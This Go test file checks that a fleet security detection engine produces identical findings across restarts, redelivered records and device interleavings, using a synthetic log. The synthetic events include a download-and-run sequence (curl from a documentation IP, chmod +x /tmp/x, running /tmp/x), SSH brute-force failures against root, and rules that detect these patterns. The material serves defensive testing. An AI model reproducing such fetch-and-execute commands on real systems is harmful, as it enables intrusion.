package engine_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"cordon/detect/engine"
	"cordon/internal/fleet"
)

// The metamorphic property: the same log gives byte-identical findings for
// any batch size, number of shards, restart point, redelivery behind the filter
// of resent messages, and interleaving of devices. See also metamorphic_test.go.

// stormyLog is a log with everything in it: rules, devices, telemetry that
// teaches and then breaks out, brute force, ticks, silence, quarantine.
func stormyLog(t testing.TB, seed uint64) []fleet.Record {
	t.Helper()
	var log []fleet.Record
	put := func(r fleet.Record) {
		r.StreamSeq = uint64(len(log) + 1)
		log = append(log, r)
	}
	for _, source := range stormyRules {
		id := strings.Fields(source)[1]
		put(fleet.Record{Kind: fleet.ControlKind, ReceivedAt: start, Control: fleet.Control{Rule: &fleet.RuleChange{ID: id, Source: source}}})
	}
	s := newSynthetic(4, seed, start)
	s.step = 10 * time.Minute
	for i, d := range s.devices {
		put(fleet.Record{Kind: fleet.ControlKind, ReceivedAt: start, Control: fleet.Control{Device: &fleet.DeviceChange{
			ID: d.id, Cohort: "c", TimeZone: []string{"", "Europe/Paris"}[i%2],
		}}})
	}
	sent := map[string]uint64{}
	for n := range 430 {
		at := s.at
		s.next(func(r fleet.Record) {
			if n > 340 && n < 360 && r.Device != "dev-0000" {
				return // three fall silent together
			}
			if n > 380 && n < 400 && r.Device == "dev-0001" {
				return
			}
			if n > 330 {
				r.Readings[0].Value += 60
			}
			sent[r.Device]++
			r.Boot, r.Seq = "b", sent[r.Device]
			put(r)
		})
		if n%7 == 3 {
			for k := range 6 {
				device := fmt.Sprintf("dev-%04d", n%4)
				sent[device]++
				outcome := "failure"
				if k == 5 && n%14 == 3 {
					outcome = "success"
				}
				put(fleet.Record{
					Kind: fleet.AuditKind, ReceivedAt: at.Add(time.Duration(k) * time.Second), Device: device, Boot: "b", Seq: sent[device],
					Audit: []fleet.AuditEvent{{
						ObservedAt: at.Add(time.Duration(k) * time.Second), Class: "authentication", Activity: "logon", Outcome: outcome,
						Actor: fmt.Sprintf("203.0.113.%d", n%5), User: "root", Repeat: k % 3,
					}},
				})
			}
		}
		if n%5 == 1 && (n < 335 || n > 405) { // not while devices are silent
			device := fmt.Sprintf("dev-%04d", n%3)
			for k, event := range stormyEvents(n) {
				sent[device]++
				event.ObservedAt = at.Add(time.Duration(k) * 20 * time.Second)
				put(fleet.Record{Kind: fleet.AuditKind, ReceivedAt: event.ObservedAt, Device: device, Boot: "b", Seq: sent[device], Audit: []fleet.AuditEvent{event}})
			}
		}
		if n == 200 || n == 230 {
			put(fleet.Record{Kind: fleet.ControlKind, ReceivedAt: at, Control: fleet.Control{Quarantine: &fleet.QuarantineChange{
				Device: "dev-0003", Active: n == 200, Level: fleet.Isolate,
			}}})
		}
		for k := range 10 {
			put(fleet.Record{Kind: fleet.TickKind, ReceivedAt: at.Add(time.Duration(k) * time.Minute), Tick: fleet.Tick{Healthy: n%50 != 7}})
		}
	}
	return log
}

var stormyRules = []string{
	"id: hot\ntitle: Hot\nkind: threshold\nmetric: cpu_percent\nwhen: value > 80.0\nraise_after: 2\nclear_after: 2\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
	"id: odd\ntitle: Odd\nkind: baseline\nmetric: \"*\"\nsensitivity: 1e-5\nsustained: 2\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
	"id: guess\ntitle: Guessing\nkind: count\nevents: class == \"authentication\" && outcome == \"failure\"\ngroup_by: [actor]\nthreshold: 5\nwindow: 5m\nmode: alert\nevidence: outside\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
	"id: guessed\ntitle: Guessed\nkind: count\nevents: outcome == \"failure\"\nthen: outcome == \"success\"\ngroup_by: [actor]\nthreshold: 4\nwindow: 5m\nmode: armed\nlevel: isolate\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
	"id: steps\ntitle: Steps\nkind: sequence\nsteps: ['message.startsWith(\"curl\")', 'message.startsWith(\"chmod\")', 'message.startsWith(\"/tmp\")']\nwindow: 2m\ngroup_by: [user]\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
	"id: kernel\ntitle: Kernel\nkind: change\nevents: activity == \"boot\"\nof: fields.kernel\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
	"id: names\ntitle: Names\nkind: count\nevents: activity == \"pam\"\ngroup_by: [actor]\ndistinct: user\nthreshold: 6\nwindow: 6h\nmode: alert\nevidence: outside\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
	"id: night\ntitle: Night\nkind: threshold\nmetric: cpu_percent\nwhen: rate > 0.0 && value > 60.0\nclear_when: value < 50.0\nschedule: {hours: \"20:00-06:00\"}\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
	"id: sigma-run\ntitle: Run\nlogsource: {category: process_creation}\ndetection:\n  s: {CommandLine|startswith: /tmp/}\n  condition: s\ncordon: {mode: alert, window: 1h}\n",
	"id: silent\ntitle: Silent\nkind: absence\nafter: 15m\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
}

// stormyEvents are what the rules about events look for: steps in an order, a
// value that changes, many accounts from one source.
func stormyEvents(n int) []fleet.AuditEvent {
	command := func(text string) fleet.AuditEvent {
		return fleet.AuditEvent{Class: "process", Activity: "start", Message: text, User: "www", Fields: map[string]string{"process.cmd_line": text}}
	}
	events := []fleet.AuditEvent{
		command("curl http://203.0.113.1/x"), command([]string{"ls", "chmod +x /tmp/x"}[n%2]), command("/tmp/x"),
		{Class: "system", Activity: "boot", Message: "boot", Fields: map[string]string{"kernel": fmt.Sprintf("6.%d", n/60)}},
	}
	for k := range 3 {
		events = append(events, fleet.AuditEvent{Class: "authentication", Activity: "pam", Outcome: "failure", Program: "sshd", Actor: "198.51.100.7", User: fmt.Sprint("u", (n+k)%11)})
	}
	return events
}

func lines(t require.TestingT, found []fleet.Finding) []string {
	out := make([]string, len(found))
	for i := range found {
		raw, err := json.Marshal(found[i])
		require.NoError(t, err)
		out[i] = string(raw)
	}
	return out
}

func testConfig() engine.Config {
	cfg := engine.DefaultConfig()
	cfg.FleetSilent = 3
	cfg.TickGap = time.Minute
	return cfg
}

func run(log []fleet.Record) []fleet.Finding {
	e := engine.New(testConfig())
	var found []fleet.Finding
	for _, r := range log {
		found = append(found, e.Apply(r)...)
	}
	return found
}

func TestEngine_sameLogSameFindings(t *testing.T) {
	log := stormyLog(t, 3)
	want := lines(t, run(log))
	byRule := map[string]int{}
	for _, f := range run(log) {
		byRule[f.RuleID+map[bool]string{true: " cleared"}[f.Cleared]]++
		if f.Device == engine.FleetDevice {
			byRule["fleet"]++
		}
	}
	t.Log(byRule)
	for _, id := range []string{"hot", "odd", "guess", "guessed", "silent", "silent cleared", "hot cleared", "fleet", "steps", "kernel", "names", "night", "sigma-run"} {
		require.NotZero(t, byRule[id], "the log raises no %s", id)
	}
	rapid.Check(t, func(t *rapid.T) {
		t.Log("log seed 3")
		restarts := rapid.SliceOfN(rapid.IntRange(0, len(log)-1), 0, 4).Draw(t, "restart before record")
		repeats := rapid.SliceOfN(rapid.IntRange(0, len(log)-1), 0, 8).Draw(t, "redeliver record")
		e, seen := engine.New(testConfig()), fleet.NewSeenFilter()
		var found []fleet.Finding
		apply := func(r fleet.Record) {
			if r.Device != "" && seen.Seen(r.Device, r.Boot, r.Seq) {
				return
			}
			found = append(found, e.Apply(r)...)
		}
		for i, r := range log {
			if slices.Contains(restarts, i) {
				state := e.Snapshot()
				e = engine.New(testConfig())
				require.NoError(t, e.Restore(state))
				require.Equal(t, state, e.Snapshot())
			}
			apply(r)
			if slices.Contains(repeats, i) && r.Device != "" {
				apply(r) // a device resends its buffer
			}
		}
		require.Equal(t, want, lines(t, found))
	})
}

func TestEngine_interleavingOfDevicesChangesNothing(t *testing.T) {
	log := stormyLog(t, 5)
	want := lines(t, run(log))
	slices.Sort(want)
	rapid.Check(t, func(t *rapid.T) {
		t.Log("log seed 5")
		// Devices move against each other between two records about all.
		shuffled := slices.Clone(log)
		from := 0
		for i := 0; i <= len(shuffled); i++ {
			if i < len(shuffled) && shuffled[i].Device != "" {
				continue
			}
			key := rapid.Uint64().Draw(t, "order")
			slices.SortStableFunc(shuffled[from:i], func(a, b fleet.Record) int {
				return strings.Compare(fmt.Sprint(key^hash(a.Device)), fmt.Sprint(key^hash(b.Device)))
			})
			from = i + 1
		}
		got := lines(t, run(shuffled))
		slices.Sort(got)
		require.Equal(t, want, got)
	})
}

func hash(s string) uint64 {
	h := uint64(14695981039346656037)
	for i := range len(s) {
		h = (h ^ uint64(s[i])) * 1099511628211
	}
	return h
}

func TestEngine_refusesCorruptState(t *testing.T) {
	e := engine.New(testConfig())
	for _, r := range stormyLog(t, 1)[:2000] {
		e.Apply(r)
	}
	state := e.Snapshot()
	for _, n := range []int{0, 1, 20, len(state) / 2, len(state) - 1} {
		fresh := engine.New(testConfig())
		require.Error(t, fresh.Restore(state[:n]), "cut at %d of %d", n, len(state))
	}
	e2 := engine.New(testConfig())
	require.NoError(t, e2.Restore(state))
	require.Equal(t, state, e2.Snapshot())
}
